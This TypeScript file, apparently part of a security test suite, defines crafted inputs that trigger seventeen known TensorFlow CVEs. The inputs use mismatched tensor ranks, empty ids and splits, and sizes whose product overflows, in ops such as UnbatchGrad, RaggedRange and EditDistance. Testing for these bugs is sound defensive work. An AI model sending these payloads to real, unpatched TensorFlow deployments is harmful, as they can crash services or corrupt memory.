// Attacks with a tensor of another rank than the operation takes for granted, and with sizes whose product does not fit.

import { strings } from '../../support/contracts.ts';
import { attrBool, attrFloat, attrInt, attrShape, attrType, attrTypes } from '../../support/graph-builder.ts';
import { type Attack, computed, request } from './attack.ts';
import { constF32, constI32, constI64, constText, f32, i64, shaped, text } from './values.ts';

const float = attrType('DT_FLOAT');
const int32 = attrType('DT_INT32');
const int64 = attrType('DT_INT64');

export const shapeAttacks: readonly Attack[] = [
  {
    cve: 'CVE-2022-35952',
    op: 'UnbatchGrad',
    trigger: 'an id that is empty',
    inputs: [constF32([1], 1), constI64([3], 1), constF32([1], 1), request(i64([0]), shaped())],
    attrs: { T: float },
  },
  {
    cve: 'CVE-2022-36002',
    op: 'Unbatch',
    trigger: 'an id that is empty',
    inputs: [constF32([1], 1), constI64([1, 3], 0, 0, 1), request(i64([0]), shaped())],
    attrs: { T: float, timeout_micros: attrInt(1000) },
  },
  {
    cve: 'CVE-2022-35993',
    op: 'SetSize',
    trigger: 'a shape that is a scalar',
    inputs: [constI64([1, 1], 1), constI32([1], 1), request(i64([], 1), shaped(2))],
    attrs: { T: int32 },
    output: ['attack:0', 'DT_INT32'],
  },
  {
    cve: 'CVE-2022-35994',
    op: 'CollectiveGather',
    trigger: 'a scalar instead of rows',
    inputs: [request(f32([], 1), shaped(-1, 1))],
    attrs: { T: float, group_size: attrInt(1), group_key: attrInt(1), instance_key: attrInt(1), shape: attrShape([1]) },
  },
  {
    cve: 'CVE-2022-35995',
    op: 'AudioSummaryV2',
    trigger: 'a sample rate that is a vector',
    inputs: [constText([], 't'), constF32([1, 2], 1), request(f32([2], 1), shaped())],
    output: ['attack:0', 'DT_STRING'],
  },
  {
    cve: 'CVE-2022-35997',
    op: 'SparseCrossV2',
    trigger: 'a separator that is a vector',
    inputs: [constI64([0, 2]), constText([0]), constI64([2], 1), request(strings(['-', '-']), shaped())],
    attrs: { N: attrInt(1), sparse_types: attrTypes(['DT_STRING']), dense_types: attrTypes([]) },
    output: ['attack:0', 'DT_INT64'],
  },
  {
    cve: 'CVE-2022-35984',
    op: 'ParameterizedTruncatedNormal',
    trigger: 'sizes of 64 bits',
    inputs: [constI64([2], 2, 2), constF32([1], 0), constF32([1], 1), constF32([1], -1), constF32([1], 1)],
    attrs: { dtype: float, T: int64 },
  },
  {
    cve: 'CVE-2022-36003',
    op: 'RandomPoissonV2',
    trigger: 'sizes whose product overflows',
    inputs: [request(i64([2], 2 ** 32, 2 ** 29), { ...shaped(2), min: 1, max: 65_536 }), constF32([8], 1)],
    attrs: { S: int64, R: float, dtype: float },
  },
  {
    cve: 'CVE-2022-36004',
    op: 'RandomGamma',
    trigger: 'sizes whose product overflows',
    inputs: [request(i64([2], 2 ** 32, 2 ** 29), { ...shaped(2), min: 1, max: 65_536 }), constF32([8], 1)],
    attrs: { S: int64, T: float },
  },
  {
    cve: 'CVE-2022-35940',
    op: 'RaggedRange',
    trigger: 'a range of more steps than there are numbers',
    inputs: [constF32([1], 0), request(f32([1], 1e10), { ...shaped(-1), min: 0, max: 1000 }), constF32([1], 1)],
    attrs: { T: float, Tsplits: int32 },
    output: ['attack:0', 'DT_INT32'],
  },
  {
    cve: 'CVE-2022-36018',
    op: 'RaggedTensorToVariant',
    trigger: 'splits that go beyond the values',
    inputs: [request(i64([2], 0, 1_000_000_000), { ...shaped(-1), min: 0, max: 4 }), constF32([4], 1)],
    attrs: { RAGGED_RANK: attrInt(1), Tvalues: float, Tsplits: int64, batched_input: attrBool(true) },
    nodes: [{ name: 'shape', op: 'Shape', inputs: ['attack'], attrs: { T: attrType('DT_VARIANT'), out_type: int32 } }],
    output: ['shape:0', 'DT_INT32'],
  },
  {
    cve: 'CVE-2022-35987',
    op: 'DenseBincount',
    trigger: 'weights of another rank than the values',
    inputs: [constI32([2, 2], 1), constI32([], 4), request(f32([4], 1), shaped(2, 2))],
    attrs: { Tidx: int32, T: float },
  },
  {
    cve: 'CVE-2022-35986',
    op: 'RaggedBincount',
    trigger: 'splits that are empty',
    inputs: [computed(i64([0]), shaped(3)), constI32([4], 1), constI32([], 4), constF32([0])],
    attrs: { Tidx: int32, T: float },
  },
  {
    cve: 'CVE-2022-35982',
    op: 'SparseBincount',
    trigger: 'row numbers outside of the dense shape',
    inputs: [
      request(i64([2, 2], -1_000_000_000), { ...shaped(-1, 2), min: 0, max: 1 }),
      constI32([2], 1),
      constI64([2], 2, 2),
      constI32([], 4),
      constF32([0]),
    ],
    attrs: { Tidx: int32, T: float },
  },
  {
    cve: 'CVE-2022-36000',
    op: 'Eig',
    trigger: 'a type of result that the input cannot have',
    inputs: [constF32([2, 2], 1)],
    attrs: { T: float, Tout: attrType('DT_COMPLEX128'), compute_v: attrBool(true) },
    output: ['attack:0', 'DT_COMPLEX128'],
  },
  {
    cve: 'CVE-2022-41899',
    op: 'SdcaOptimizer',
    trigger: 'dense features that are a vector',
    inputs: [
      constI64([1], 4),
      constI64([1], 3),
      constF32([2], 1),
      constF32([2], 1),
      constF32([1], 1),
      constF32([1], 1),
      constI64([1], 1),
      constF32([1], 1),
      constF32([1], 1),
      constF32([1, 4], 1),
    ],
    attrs: {
      loss_type: text('logistic_loss'),
      num_sparse_features: attrInt(1),
      num_sparse_features_with_values: attrInt(1),
      num_dense_features: attrInt(1),
      l1: attrFloat(0),
      l2: attrFloat(1),
      num_loss_partitions: attrInt(1),
      num_inner_iterations: attrInt(1),
    },
  },
  {
    cve: 'CVE-2023-25662',
    op: 'EditDistance',
    trigger: 'a shape whose product overflows',
    inputs: [
      constI64([1, 3], 0),
      constI64([1], 1),
      request(i64([3], 2 ** 31, 1, 1), { ...shaped(3), min: 1, max: 65_536 }),
      constI64([1, 3], 0),
      constI64([1], 1),
      request(i64([3], 1, 2 ** 33, 1), { ...shaped(3), min: 1, max: 65_536 }),
    ],
    attrs: { T: int64, normalize: attrBool(true) },
  },
];
